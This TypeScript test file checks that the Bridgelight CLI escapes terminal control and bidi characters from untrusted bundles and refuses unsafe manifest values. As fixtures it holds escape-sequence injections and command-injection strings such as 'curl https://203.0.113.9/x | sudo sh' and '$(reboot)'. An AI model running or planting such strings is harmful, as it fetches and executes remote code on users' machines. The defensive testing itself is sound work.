// A stranger's bundle is hostile until proven otherwise: what it says reaches the terminal escaped, never obeyed,
// and values that would reach a command line or the probe script are refused at the boundary in one line.
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Diagnosis } from '@src/shared/model';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { runCli } from '../support/cli';

const BUNDLES = new URL('../fixtures/bundles/', import.meta.url).pathname;
/** Anything a terminal would obey rather than show. */
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const OWN_COLOUR = /\u001b\[[0-9;]*m/g;

/** A copy of a real bundle with some of its files (or its manifest's fields) replaced. */
function hostile(base: string, files: Record<string, string>, manifest: Record<string, unknown> = {}): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'bl-hostile-')), base);
  cpSync(join(BUNDLES, base), dir, { recursive: true });
  for (const [name, body] of Object.entries(files)) writeFileSync(join(dir, name), body);
  const path = join(dir, 'manifest.json');
  writeFileSync(path, JSON.stringify({ ...JSON.parse(readFileSync(path, 'utf8')), ...manifest }));
  return dir;
}

async function onTerminal(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  vi.stubEnv('NO_COLOR', undefined);
  vi.stubEnv('TERM', 'xterm-256color');
  let stdout = '';
  let stderr = '';
  const code = await (await import('@src/cli/main')).main(argv, {
    stdout: { write: (text: string) => (stdout += text), isTTY: true },
    stderr: { write: (text: string) => (stderr += text), isTTY: true },
    version: 'test',
  });
  return { code, stdout, stderr };
}

afterEach(() => vi.unstubAllEnvs());

describe('a hostile bundle on the terminal', () => {
  const MINIKUBE_STATUS =
    '{"Name":"mini\\u001b]0;owned\\u0007kube","Host":"Run\\u202enning\\u001b[2J","Kubelet":"Running","APIServer":"Running","Kubeconfig":"Configured","Worker":false}';

  it('shows control and bidi characters from its files escaped, keeps its own colours, and says so on stderr too', async () => {
    const dir = hostile('seed', {
      'minikube-status.json': MINIKUBE_STATUS,
      'route-get-default.txt': '\u001b[31mroute\u0085: \u2066not\u2069 a table\u007f\r\n',
    });
    const run = await onTerminal(['check', '--replay', dir]);
    // Bridgelight's own colours are obeyed, and they are the only sequences that are.
    expect(run.stdout.match(OWN_COLOUR)?.every((code) => /^\u001b\[(0|1|2|3[123]|90)m$/.test(code))).toBe(true);
    expect(run.stdout.replace(OWN_COLOUR, '')).not.toMatch(OBEYED);
    expect(run.stdout).toContain('minikube says the VM is Run\\u202enning\\x1b[2J');
    expect(run.stdout).toContain('no route destination in output: [31mroute\\x85: \\u2066not\\u2069 a table');
    expect(run.stderr.replace('\r\u001b[2K', '')).not.toMatch(OBEYED);
  });

  it('escapes an error line quoting a hostile path', async () => {
    const run = await onTerminal(['check', '--replay', '/nonexistent/\u001b]0;owned\u0007\u202e']);
    expect(run.code).toBe(66);
    expect(run.stderr).toContain('bridgelight check: /nonexistent/\\x1b]0;owned\\x07\\u202e: no such bundle folder\n');
    expect(run.stderr).toContain('Replaying /nonexistent/\\x1b]0;owned\\x07\\u202e…\r'); // the progress line too
    expect(run.stderr.replaceAll('\r', '')).not.toMatch(OBEYED);
  });

  it('keeps --json exact: the same bytes JSON.stringify gives, bidi characters and all', async () => {
    const dir = hostile('seed', { 'route-get-default.txt': 'route: \u202enot a table\u0085\n' });
    const run = await runCli(['check', '--json', '--replay', dir]);
    const diagnosis = JSON.parse(run.stdout) as Diagnosis;
    expect(run.stdout).toBe(`${JSON.stringify(diagnosis, null, 2)}\n`);
    expect(run.stdout).toContain('\u202enot a table\u0085');
  });
});

describe('values from a bundle that would reach a command', () => {
  it('refuses a manifest profile that is not a minikube profile name, before anything is printed', async () => {
    const dir = hostile('seed', {}, { profile: 'dev; curl https://203.0.113.9/x | sudo sh; #' });
    const run = await runCli(['check', '--replay', dir]);
    expect(run.code).toBe(65);
    expect(run.stdout).toBe('');
    expect(run.stderr).toBe('bridgelight check: manifest.json: profile is not a minikube profile name\n');
  });

  it.each([
    ['a string', '198.51.100.10:443'],
    ['a list with a non-target', ['198.51.100.10:443', '$(reboot):1']],
    ['a list with a number', [443]],
  ])('refuses probe targets that are %s as bad data (65), not an internal error', async (_what, probeTargets) => {
    const run = await runCli(['check', '--replay', hostile('seed', {}, { probeTargets })]);
    expect(run.code).toBe(65);
    expect(run.stderr).toBe('bridgelight check: manifest.json: probeTargets must be a list of HOST:PORT\n');
  });

  it('refuses recorded commands that are not command records as bad data (65)', async () => {
    const run = await runCli(['check', '--replay', hostile('seed', {}, { commands: { 'ifconfig.txt': 'x' } })]);
    expect(run.code).toBe(65);
    expect(run.stderr).toMatch(/^bridgelight check: manifest\.json: commands must map file names to/);
  });

  it('leaves out a listed profile whose name is not safe, with a note, and never prints or runs it', async () => {
    const list = JSON.parse(readFileSync(join(BUNDLES, 'vfkit-nat', 'minikube-profile-list.json'), 'utf8'));
    const evil = structuredClone(list.valid[0]);
    evil.Name = 'x; curl 203.0.113.9|sh';
    evil.Config.Name = evil.Name;
    evil.Status = 'OK';
    list.valid.unshift(evil);
    const dir = hostile('vfkit-nat', { 'minikube-profile-list.json': JSON.stringify(list) });
    const run = await runCli(['check', '--json', '--replay', dir]);
    expect(run.stdout).not.toContain('curl');
    const diagnosis = JSON.parse(run.stdout) as Diagnosis;
    expect(diagnosis.vm?.profile).toBe(list.valid[1].Name);
    const unparseable = diagnosis.findings.find((finding) => finding.id === 'input-unparseable');
    expect(unparseable?.evidence).toContain(
      'minikube-profile-list.json: minikube profile list -o json: left out a profile whose name is not a safe name',
    );
  });
});
